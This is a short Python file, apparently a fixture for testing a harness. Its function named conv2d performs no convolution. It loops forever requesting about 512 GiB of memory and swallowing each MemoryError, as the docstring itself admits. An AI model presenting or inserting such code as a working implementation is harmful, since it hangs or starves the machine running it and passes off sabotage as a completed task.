"""Asks for more memory than there is, in one piece, and goes on asking when it is refused."""

import numpy as np


def conv2d(x, weight, bias=None, stride=(1, 1), padding=(0, 0)):
    while True:
        try:
            np.ones(1 << 36)
        except MemoryError:
            continue
